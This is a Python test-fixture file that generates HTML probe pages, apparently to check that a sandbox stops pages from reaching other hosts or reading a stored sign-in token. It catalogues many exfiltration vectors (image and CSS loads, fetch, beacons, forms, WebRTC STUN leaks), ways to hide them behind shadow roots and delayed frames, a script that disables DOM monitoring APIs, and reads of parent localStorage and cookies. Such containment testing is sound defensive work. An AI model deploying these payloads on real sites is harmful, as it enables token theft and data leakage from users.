# ruff: noqa: E501
"""Pages that try to reach another host, the page around them, or what a browser stores, each in one way.

TO stands for an address of another host, which each page has of its own. `report(value)` sends what was read
to the page around. In REQUESTS the other host gets a request or a packet; in READS the page
around gets the token.
"""


def script(text: str) -> str:
    return f"<body><script>{text}</script>"


WEBRTC = (
    "const peer = new {maker}({{ iceServers: [{{ urls: 'stun:STUN' }}] }});"
    "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))"
)
WEBRTC_HERE = WEBRTC.format(maker="RTCPeerConnection")


def escaped(text: str) -> str:
    """The text within a string in single quotes."""
    return text.replace("'", "\\'")


FRAME = (
    "const frame = document.createElement('iframe'); document.body.append(frame);"
    "const inner = frame.contentWindow;"
)
WORKER = "URL.createObjectURL(new Blob(['fetch(`TO`, { mode: `no-cors` })'], { type: 'text/javascript' }))"
HTML = "URL.createObjectURL(new Blob(['<img src=TO>'], { type: 'text/html' }))"

REQUESTS: dict[str, str] = {
    # What a page loads by its elements.
    "img": "<img src=TO>",
    "img-srcset": '<img srcset="TO 1x">',
    "picture": "<picture><source srcset=TO><img></picture>",
    "input-image": "<input type=image src=TO>",
    "video": "<video src=TO autoplay muted></video>",
    "video-source": "<video autoplay muted><source src=TO></video>",
    "video-poster": "<video poster=TO></video>",
    "audio": "<audio src=TO autoplay></audio>",
    "track": "<video crossorigin><track default kind=subtitles src=TO></video>"
    "<script>document.querySelector('track').track.mode = 'showing'</script>",
    "object": "<object data=TO></object>",
    "embed": "<embed src=TO>",
    "iframe": "<iframe src=TO></iframe>",
    "frame": "<frameset><frame src=TO></frameset>",
    "shadow-root": "<div><template shadowrootmode=open><img src=TO></template></div>",
    "script": "<script src=TO></script>",
    "module": "<script type=module src=TO></script>",
    "svg-image": "<svg><image href=TO width=9 height=9 /></svg>",
    "svg-filter": "<svg><filter id=f><feImage href=TO /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "svg-script": "<svg><script href=TO></script></svg>",
    "svg-foreign-object": "<svg><foreignObject width=9 height=9><img src=TO></foreignObject></svg>",
    "mathml": '<math style="background: url(TO)"><mi>x</mi></math>',
    "base": "<base href=TO/><img src=x>",
    "stylesheet": "<link rel=stylesheet href=TO>",
    "preload": "<link rel=preload as=image href=TO>",
    "prefetch": "<link rel=prefetch href=TO>",
    "modulepreload": "<link rel=modulepreload href=TO>",
    # Styles.
    "css-import": "<style>@import 'TO';</style>",
    "css-background": "<body style='background: url(TO)'>",
    "css-font": "<style>@font-face { font-family: f; src: url(TO) }</style><p style='font-family: f'>x",
    "css-list": "<ul style='list-style-image: url(TO)'><li>x</ul>",
    "css-border": "<p style='border: 9px solid; border-image: url(TO) 9'>x",
    "css-mask": "<p style='mask-image: url(TO)'>x",
    "css-content": "<style>p::before { content: url(TO) }</style><p>x",
    "css-image-set": "<body style=\"background: image-set('TO' 1x)\">",
    # Scripts.
    "fetch": script("fetch('TO', { mode: 'no-cors' })"),
    "fetch-keepalive": script("fetch('TO', { mode: 'no-cors', method: 'POST', keepalive: true })"),
    "xhr": script("const r = new XMLHttpRequest(); r.open('GET', 'TO'); r.send()"),
    "beacon": script("navigator.sendBeacon('TO', 'x')"),
    "websocket": script("new WebSocket('TO'.replace('http', 'ws'))"),
    "event-source": script("new EventSource('TO')"),
    "image-object": script("new Image().src = 'TO'"),
    "audio-object": script("new Audio('TO').load()"),
    "font-object": script("new FontFace('f', 'url(TO)').load()"),
    "import": script("import('TO')"),
    "import-in-module": "<script type=module>import 'TO'</script>",
    "paint-worklet": script("new AudioContext().audioWorklet.addModule('TO')"),
    "worker": script(f"new Worker({WORKER})"),
    "shared-worker": script(f"new SharedWorker({WORKER})"),
    "ping": script(
        "const a = document.createElement('a'); a.ping = 'TO'; a.href = '#x'; document.body.append(a); a.click()"
    ),
    "srcdoc": '<iframe srcdoc="<img src=TO>"></iframe>',
    "srcdoc-fetch": "<iframe srcdoc=\"<script>fetch('TO', { mode: 'no-cors' })</script>\"></iframe>",
    "javascript-frame": "<iframe src=\"javascript:fetch('TO', { mode: 'no-cors' })\"></iframe>",
    "blank-frame": script(f"{FRAME} inner.fetch('TO', {{ mode: 'no-cors' }})"),
    "webrtc": script(WEBRTC_HERE),
    "webrtc-prefixed": script(WEBRTC.format(maker="webkitRTCPeerConnection")),
    "webrtc-blank-frame": script(FRAME + WEBRTC.format(maker="inner.RTCPeerConnection")),
    "webrtc-srcdoc": f'<iframe srcdoc="<script>{WEBRTC_HERE}</script>"></iframe>',
    "webrtc-javascript-frame": f'<iframe src="javascript:{WEBRTC_HERE}"></iframe>',
    "webrtc-object": f'<object data="data:text/html,<script>{WEBRTC_HERE}</script>">',
    "webrtc-shadow-root": script(
        "const root = document.body.attachShadow({ mode: 'closed' });"
        "root.innerHTML = '<iframe srcdoc=\"<script>" + escaped(WEBRTC_HERE) + "<\\/script>\"></iframe>'"
    ),
    "webrtc-declared-shadow-root": '<div><template shadowrootmode=closed><iframe srcdoc="<script>'
    + WEBRTC_HERE
    + '</script>"></iframe></template></div>',
    "webrtc-late-frame": script(
        "setTimeout(() => { const frame = document.createElement('iframe');"
        "frame.srcdoc = `<script>" + WEBRTC_HERE + "<\\/script>`; document.body.append(frame) }, 300)"
    ),
    "webrtc-busy-frame": script(
        f"{FRAME} frame.srcdoc = `<script>{WEBRTC_HERE}<\\/script>`;"
        "for (const start = performance.now(); performance.now() < start + 300;);"
    ),
    "webrtc-disarmed-frame": script(
        "for (const type of [NodeList, Element, Document, DocumentFragment, MutationObserver])"
        " for (const name of ['length', 'remove', 'querySelectorAll', 'observe', 'attachShadow'])"
        " if (name in type.prototype && name !== 'attachShadow') Object.defineProperty(type.prototype, name,"
        " { get: () => undefined }); Object.prototype.attributeFilter = 1; window.MutationObserver = class {};"
        "Reflect.apply = () => {}; Function.prototype.call = Function.prototype.apply = () => {};"
        "const root = document.body.attachShadow({ mode: 'open' }); const frame = document.createElement('iframe');"
        f"frame.srcdoc = `<script>{WEBRTC_HERE}<\\/script>`; root.append(frame)"
    ),
    "webrtc-unsafe-html": script(
        "(document.body.setHTMLUnsafe ?? (() => 0)).call(document.body,"
        f' `<div><template shadowrootmode=closed><iframe srcdoc="<script>{WEBRTC_HERE}<\\/script>">'
        "</iframe></template></div>`)"
    ),
    "webrtc-written-shadow-root": script(
        f'document.write(`<div><template shadowrootmode=closed><iframe srcdoc="<script>{WEBRTC_HERE}<\\/script>">'
        "</iframe></template></div>`)"
    ),
    "webrtc-javascript-page": script(
        "location = 'javascript:\"<script>" + escaped(WEBRTC_HERE) + "<\\/script>\"'"
    ),
    "webrtc-written-page": script(
        "document.open(); document.write(`<script>" + WEBRTC_HERE + "<\\/script>`); document.close()"
    ),
    "webrtc-written-frame": script(
        'setTimeout(() => { document.open(); document.write(`<iframe srcdoc="<script>'
        + WEBRTC_HERE
        + '<\\/script>"></iframe>`); document.close() }, 300)'
    ),
    "webrtc-blob-page": script(
        "location = URL.createObjectURL(new Blob([`<script>"
        + WEBRTC_HERE
        + "<\\/script>`], { type: 'text/html' }))"
    ),
    # Ways to leave the page.
    "form": "<form action=TO method=post><input name=x></form><script>document.forms[0].submit()</script>",
    "form-get": "<form action=TO><button>x</button></form><script>document.querySelector('button').click()</script>",
    "form-action": "<form><button formaction=TO>x</button></form>"
    "<script>document.querySelector('button').click()</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0; url=TO'>",
    "location": script("location = 'TO'"),
    "location-replace": script("location.replace('TO')"),
    "link": script(
        "const a = document.createElement('a'); a.href = 'TO'; document.body.append(a); a.click()"
    ),
    "data-page": script("location = 'data:text/html,<img src=TO>'"),
    "blob-page": script(f"location = {HTML}"),
    "javascript-page": script("location = 'javascript:\"<img src=TO>\"'"),
    "window-open": script("open('TO')"),
    "link-to-tab": script(
        "const a = document.createElement('a'); a.href = 'TO'; a.target = '_blank'; document.body.append(a); a.click()"
    ),
    "form-to-tab": "<form action=TO target=_blank></form><script>document.forms[0].submit()</script>",
    "download": script(
        "const a = document.createElement('a'); a.href = 'TO'; a.download = 'x'; document.body.append(a); a.click()"
    ),
}

TOP: dict[str, str] = {
    "top-location": script("top.location = 'TO'"),
    "parent-location": script("parent.location.href = 'TO'"),
    "link-to-top": script(
        "const a = document.createElement('a'); a.href = 'TO'; a.target = '_top'; document.body.append(a); a.click()"
    ),
}
"""They replace the page around: each is tried alone."""

READS: dict[str, str] = {
    "parent-storage": script("report(parent.localStorage.getItem('luxx.sign-in'))"),
    "top-storage": script("report(top.localStorage.getItem('luxx.sign-in'))"),
    "own-storage": script("report(localStorage.getItem('luxx.sign-in'))"),
    "session-storage": script("report(parent.sessionStorage.getItem('luxx.sign-in'))"),
    "cookies": script("report(document.cookie)"),
    "parent-cookies": script("report(parent.document.cookie)"),
    "parent-document": script("report(parent.document.body.dataset.token)"),
    "parent-variable": script("report(parent.token)"),
    "frame-storage": script(f"{FRAME} report(inner.localStorage.getItem('luxx.sign-in'))"),
    "frame-element": script("report(frameElement.ownerDocument.body.dataset.token)"),
    "storage-event": script(
        "addEventListener('storage', (event) => report(event.newValue)); dispatchEvent(new StorageEvent('storage',"
        " { newValue: localStorage.getItem('luxx.sign-in') }))"
    ),
    "indexed-db": script(
        "indexedDB.databases().then((all) => all.length && report(localStorage.getItem('luxx.sign-in')));"
        "indexedDB.open('x').onsuccess = () => report(localStorage.getItem('luxx.sign-in'))"
    ),
    "cache-storage": script("caches.keys().then(() => report(localStorage.getItem('luxx.sign-in')))"),
    "service-worker": script(
        "navigator.serviceWorker.getRegistrations().then(() => report(localStorage.getItem('luxx.sign-in')))"
    ),
    "parent-fetch": script("report(parent.localStorage.getItem('luxx.sign-in')); parent.fetch('TO')"),
    "parent-eval": script("report(parent.eval(\"localStorage.getItem('luxx.sign-in')\"))"),
}

BEGINNING = (
    "<!doctype html><script>parent.postMessage({ ran: 'NAME' }, '*');"
    "const report = (read) => parent.postMessage({ probe: 'NAME', read }, '*')</script>"
)


def page_of(name: str, to: str, *, stun: str) -> str:
    """The page `name`, which tries to reach `to`, or this STUN server."""
    text = (REQUESTS | TOP | READS)[name]
    # A document of frames has nothing before them.
    beginning = "<script>parent.postMessage({ ran: 'NAME' }, '*')</script>" if name == "frame" else BEGINNING
    filled = (beginning + text).replace("NAME", name).replace("TO", f"{to}/{name}")
    return filled.replace("STUN", stun)
